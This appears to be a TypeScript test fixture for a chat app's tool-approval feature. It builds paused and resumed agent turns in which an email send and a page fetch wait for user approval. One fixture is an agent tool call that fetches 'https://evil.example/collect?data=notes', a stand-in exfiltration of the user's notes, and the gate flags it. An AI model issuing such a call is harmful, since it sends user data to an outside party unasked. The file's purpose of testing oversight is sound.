import type { TurnEvent } from '../../../../shared/chat/turn-event.ts';
import type { ChatReply, PendingApproval } from '../../../../shared/protocol/index.ts';
import { conversationId, type WireEvent } from './recovered-turn.ts';

const sendArguments = {
  to: ['bob@example.com'],
  cc: ['carol@example.com'],
  subject: 'Meeting notes',
  body: 'Hi Bob,\n\nHere are the notes.',
};

/** What the send would do. */
export const emailPreview: Extract<PendingApproval['preview'], { kind: 'email' }> = {
  kind: 'email',
  bcc: [],
  hasHtml: false,
  ...sendArguments,
};

/** The send the turn waits on: to an address the user never wrote. */
export const sendApproval: PendingApproval = {
  id: 'signed-approval-1',
  toolCallId: 'call_send',
  tool: 'gmail_send_email',
  arguments: sendArguments,
  reason: '`bob@example.com` does not appear in anything you wrote.',
  preview: emailPreview,
  expiresAt: '2026-11-27T12:00:00.000Z',
};

/** A second call of the same round that asks: a page fetch. */
export const fetchApproval: PendingApproval = {
  id: 'signed-approval-2',
  toolCallId: 'call_fetch',
  tool: 'web_fetch',
  arguments: { url: 'https://evil.example/collect?data=notes' },
  reason: 'The address https://evil.example/ does not appear in anything you wrote.',
  preview: { kind: 'fetch', urls: ['https://evil.example/collect?data=notes'] },
  expiresAt: '2026-11-27T12:00:00.000Z',
};

const usage = { promptTokens: 50, completionTokens: 10, totalTokens: 60 };

function reply(fields: Partial<ChatReply>): ChatReply {
  return {
    conversationId,
    status: 'completed',
    reply: '',
    approvals: [],
    toolCalls: [],
    model: 'demo:parley-demo',
    usage,
    ...fields,
  };
}

function wire(events: readonly TurnEvent[], done: ChatReply): WireEvent[] {
  return [...events.map((event) => ({ event: event.type, data: event })), { event: 'done', data: done }];
}

/** A turn that pauses on `approvals` (by default the send to Bob). */
export function pausedTurnStream(approvals: readonly PendingApproval[] = [sendApproval]): WireEvent[] {
  return wire([
    { type: 'step-start', step: 1, model: 'demo:parley-demo' },
    ...approvals.map((approval): TurnEvent => ({
      type: 'tool-call',
      id: approval.toolCallId,
      name: approval.tool,
      arguments: JSON.stringify(approval.arguments),
    })),
    ...approvals.map((approval): TurnEvent => ({ type: 'approval-request', approval })),
  ], reply({ status: 'awaiting_approval', approvals: [...approvals] }));
}

/** The reply of the resumed turn once the send ran. */
export const sentReply = 'Sent the notes to Bob.';

const sentCall = {
  id: 'call_send',
  name: 'gmail_send_email',
  resolvedName: 'gmail_send_email',
  status: 'success',
  attempt: 1,
  durationMs: 30,
} as const;

/** The resumed turn: the send runs and the model says so. */
export const resumedTurnStream: WireEvent[] = wire([
  { type: 'tool-result', call: sentCall },
  { type: 'step-start', step: 2, model: 'demo:parley-demo' },
  { type: 'text-delta', text: sentReply },
], reply({ reply: sentReply, toolCalls: [sentCall] }));
